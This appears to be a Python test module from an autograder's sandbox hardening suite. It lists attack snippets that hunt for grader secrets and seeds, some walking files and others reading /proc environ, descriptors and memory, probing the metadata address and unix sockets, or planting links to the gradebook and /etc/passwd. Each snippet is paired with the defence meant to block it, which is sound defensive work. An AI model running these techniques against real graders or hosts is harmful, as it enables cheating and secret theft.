"""Reading what is not the student's: files, memory, other processes, the network, the hidden inputs' seed.

What is read is printed; the arena looks for its canaries in everything that a submission says or leaves.
"""

from attack import GAINED, Attack, Link

ROOT = "a root of its own that shows nothing of the course (namespaces), or Landlock's rules"
MEMORY = "the launcher holds no secret, and a kernel's seed tells nothing of the hidden inputs"
PROCESSES = "a PID namespace, or a uid of its own with Landlock's scopes"
NETWORK = "no sockets but unix ones (seccomp), an empty network namespace"
COPIES = "links are not followed and only regular files are copied"

FIND = f"""
import os, glob
canaries = ("canary-5b1f", "canary-77c0", "canary-a3d9", "canary-e812", "canary-04aa", "canary-91be", "canary-secret")
def look(path):
    try:
        with open(path, "rb") as file:
            text = file.read(1 << 22).decode("latin-1")
    except OSError:
        return
    for canary in canaries:
        if canary in text:
            start = text.index(canary)
            print("{GAINED}", path, text[start:start + 40])
"""


def read(name, tries, answer, defence=ROOT, **more):
    more.setdefault("without", "isolation")
    return Attack(name=name, tries=tries, answer=answer, defence=defence, **more)


CASES = (
    read(
        "walk the file system",
        "every file that can be reached from the root and from the folders above",
        FIND
        + """
for top in ("..", "../../..", os.path.expanduser("~"), "/tmp", "/srv", "/home", "/root", "/work", "/var/tmp", "/opt", "/mnt"):
    for folder, folders, names in os.walk(top):
        folders[:] = [f for f in folders if f not in (".venv", ".git", ".pyenv", "site-packages", ".cache")][:200]
        for name in names[:300]:
            if name.endswith((".py", ".ipynb", ".txt", ".db", ".json", "secret", ".toml")):
                look(os.path.join(folder, name))
""",
    ),
    read(
        "paths told by the environment",
        "the course's folder by name, as one who has been told it",
        FIND
        + """
for root in set(open("course-path.txt").read().split()):
    for path in ("gradebook.db", "checks/ps.py", "reference_of_ps.py", ".autograder/secret", "notes.txt",
                 "source/ps/ps.ipynb", "submitted/honest-01/ps/ps.ipynb", "submitted/honest-02/ps/notes.txt"):
        look(os.path.join(root, path))
""",
        prepare=lambda folder: (folder / "course-path.txt").write_text(str(folder.parents[2])),
    ),
    read(
        "import the reference",
        "the reference and the checks as modules",
        """
import sys
for name in ("reference_of_ps", "checks.ps", "autograder.checks.p01_attention", "reference_impl.attention",
             "autograder.sandbox.codec"):
    try:
        module = __import__(name, fromlist=["x"])
        print("GAINED", name, open(module.__file__).read(300), getattr(module, "TOLD", ""))
    except ImportError:
        pass
""",
    ),
    read(
        "source of loaded modules",
        "the text or the constants of the grader's modules, left in memory by the fork",
        """
import gc, sys, types
for thing in gc.get_objects():
    if isinstance(thing, types.ModuleType) and thing.__name__.startswith(("checks_", "reference_of")):
        print("GAINED", thing.__name__, vars(thing).get("TOLD"), vars(thing).get("__doc__"))
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for value in list(thing.values()):
            if isinstance(value, str) and "canary-" in value and len(value) < 200 and "5b1f\\", \\"" not in value:
                print("GAINED", value)
""",
        defence=MEMORY,
        without=None,
    ),
    read(
        "seed in the frames",
        "numbers in the frames below the notebook's: the order that the kernel was started with",
        """
import sys
frame, seen = sys._getframe(), []
while frame:
    for name, value in list(frame.f_locals.items()):
        seen.append((name, value))
        for key in ("seed", "order", "request", "secret"):
            if hasattr(value, key):
                seen.append((key, getattr(value, key)))
        if isinstance(value, dict):
            seen += [(k, v) for k, v in value.items() if k in ("seed", "secret")]
    frame = frame.f_back
for name, value in seen:
    inner = [value, *[getattr(value, key, None) for key in ("seed", "limits", "arguments")]]
    for each in inner:
        if isinstance(each, int) and each > 1 << 32:
            print("seen", name, each)
""",
        defence=MEMORY,
        without=None,
    ),
    read(
        "seed in the memory",
        "every number and every text of digits that is left in the process's memory",
        """
import ctypes, gc, re
found = set()
for thing in gc.get_objects():
    for value in gc.get_referents(thing):
        if isinstance(value, int) and value > 1 << 40:
            found.add(value)
with open("/proc/self/maps") as maps:
    spans = [line.split() for line in maps]
for fields in spans:
    if "rw" not in fields[1] or (len(fields) > 5 and fields[5] not in ("[heap]", "[stack]")):
        continue
    start, end = (int(x, 16) for x in fields[0].split("-"))
    try:
        data = ctypes.string_at(start, min(end - start, 1 << 26))
    except Exception:
        continue
    found.update(int(x) for x in re.findall(rb'"seed": ?(\\d{12,19})', data))
print("seen", sorted(found)[:5000])
""",
        defence=MEMORY,
        without=None,
    ),
    read(
        "seed of the random generators",
        "what TensorFlow, NumPy and Python were seeded with",
        """
import random, sys
import numpy as np
tensorflow = sys.modules.get("tensorflow")
print("seen", random.getstate()[1][:4], np.random.get_state()[1][0])
if tensorflow:
    print("seen", tensorflow.python.eager.context.context()._seed)
""",
        defence=MEMORY,
        without=None,
    ),
    read(
        "environment",
        "the environment of every process that can be seen, and of its own start",
        FIND
        + """
print({k: v for k, v in os.environ.items() if "canary" in v})
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/task/*/environ"):
    look(path)
""",
        defence=PROCESSES,
    ),
    read(
        "other processes' files",
        "roots, working folders and open files of other processes",
        FIND
        + """
me = str(os.getpid())
for pid in [p for p in os.listdir("/proc") if p.isdigit() and p != me]:
    for place in (f"/proc/{pid}/root", f"/proc/{pid}/cwd"):
        for path in ("notes.txt", "gradebook.db", "checks/ps.py", "tmp", "work"):
            look(f"{place}/{path}")
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            look(f"/proc/{pid}/fd/{number}")
    except OSError:
        pass
""",
        defence=PROCESSES,
        without=None,
    ),
    read(
        "memory of other processes",
        "the memory of whatever process can be opened",
        """
import os
for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (os.getpid(), *[int(t) for t in os.listdir("/proc/self/task")])]:
    try:
        open(f"/proc/{pid}/mem", "rb").close()
        parent = open(f"/proc/{pid}/stat").read().split()[3]
        if int(parent) != os.getpid():
            print("GAINED", pid)
    except OSError:
        pass
""",
        defence=PROCESSES,
    ),
    read(
        "inherited descriptors",
        "every descriptor that the process was started with",
        """
import os, socket, stat
for number in range(3, 512):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if "canary" in target or "gradebook" in target or target.endswith((".py", ".db", "secret")):
        print("GAINED", number, target)
    try:
        other = socket.socket(fileno=os.dup(number))
        kind = other.getsockopt(socket.SOL_SOCKET, socket.SO_TYPE)
        if other.family == socket.AF_UNIX and kind == socket.SOCK_SEQPACKET:
            print("GAINED the launcher's control or the leash", number)
        other.close()
    except OSError:
        pass
""",
        defence="a fork closes every descriptor that it was not given",
        without=None,
    ),
    read(
        "network",
        "a name server, a web server, the host's own services",
        """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET, ("169.254.169.254", 80)),
                        (socket.AF_INET, ("192.0.2.1", 80)), (socket.AF_INET6, ("::1", 22))):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(0.2)
                print("GAINED a socket", family, kind)
        except OSError:
            pass
""",
        defence=NETWORK,
    ),
    read(
        "listening sockets",
        "the launcher's control socket and every other socket that has a name",
        """
import os, socket
for line in open("/proc/net/unix").read().splitlines()[1:]:
    name = line.split(" ")[-1] if "/" in line or "@" in line else ""
    if not name or name.startswith(("/run/ipc", os.path.expanduser("~"))) or "/ipc/k-" in name or ".subprocess" in name:
        continue
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as s:
                s.settimeout(0.3)
                s.connect(name.replace("@", "\\0", 1) if name.startswith("@") else name)
                print("GAINED", name)
        except OSError:
            pass
""",
        defence="no socket of the machine is in sight (namespaces), or connecting is refused (seccomp)",
        without=None,
    ),
    read(
        "links to the course",
        "links in the folder that is handed in: to the gradebook, the checks and a whole folder",
        FIND
        + """
for folder, _, names in os.walk(".", followlinks=True):
    for name in names:
        look(os.path.join(folder, name))
""",
        files={
            "innocent.txt": Link("{course}/notes.txt"),
            "book.db": Link("{course}/gradebook.db"),
            "folder": Link("{course}/source/ps"),
            "others": Link("{course}/submitted"),
            "sub/reference.py": Link("{course}/reference_of_ps.py"),
        },
        defence=COPIES,
        without=None,
    ),
    read(
        "links left behind",
        "links made by the notebook, which whoever copies the folder back would follow",
        """
import os
course = open("course-path.txt").read()
for name, target in (("out.txt", "notes.txt"), ("book.db", "gradebook.db"), ("all", "submitted"), ("ps.txt", "checks/ps.py")):
    os.symlink(os.path.join(course, target), name)
os.symlink("/proc/self/environ", "environ.txt")
os.mkfifo("pipe.txt")
""",
        prepare=lambda folder: (folder / "course-path.txt").write_text(str(folder.parents[2])),
        defence=COPIES,
        without=None,
    ),
    read(
        "hard links left behind",
        "hard links to files outside, made by the notebook",
        """
import os
course = open("course-path.txt").read()
for name, target in (("out.txt", f"{course}/notes.txt"), ("book.db", f"{course}/gradebook.db"), ("passwd.txt", "/etc/passwd")):
    try:
        os.link(target, name)
        print("GAINED", target)
    except OSError:
        pass
""",
        prepare=lambda folder: (folder / "course-path.txt").write_text(str(folder.parents[2])),
        defence=COPIES,
        without=None,
    ),
    read(
        "earlier kernels",
        "what earlier kernels left in the shared temporary folders",
        FIND
        + """
import pathlib
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
    for path in glob.glob(f"{folder}/**/left-*", recursive=True):
        print("GAINED", path)
    try:
        pathlib.Path(folder, f"left-{os.getpid()}").write_text("here")
    except OSError:
        pass
""",
        defence="every kernel has its own temporary folders, and they go with it",
        without=None,
    ),
    read(
        "hidden tests in the notebook",
        "the hidden tests, from the cells that the kernel was given and from its history",
        """
import os, gc
from IPython import get_ipython
text = repr(In) + repr(get_ipython().history_manager.input_hist_raw)
for name in os.listdir("."):
    if name.endswith(".ipynb"):
        text += open(name).read()
if "che" "cks of" in text or "equal(" "student" in text:
    print("GAINED", text[:500])
""",
        defence="the kernel gets neither the notebook nor the checks",
        without=None,
    ),
    read(
        "the grader's checks while they run",
        "the frames and arguments at the time when a check calls a function",
        """
import sys, gc
def spy(*args, **kwargs):
    frame = sys._getframe()
    while frame:
        text = repr(frame.f_locals)[:20000] + frame.f_code.co_filename
        if "canary-5b1f" in text or "checks/ps.py" in text or "rng" in frame.f_locals or "reference" in frame.f_locals:
            open("spied.txt", "a").write("GAINED " + text[:500])
        frame = frame.f_back
    return 0
affine = labels = describe = spy
class Counter:
    total = 0
    def add(self, n): return spy()
""",
        defence="checks run in the grader; the kernel gets arguments and nothing else",
        without=None,
    ),
)
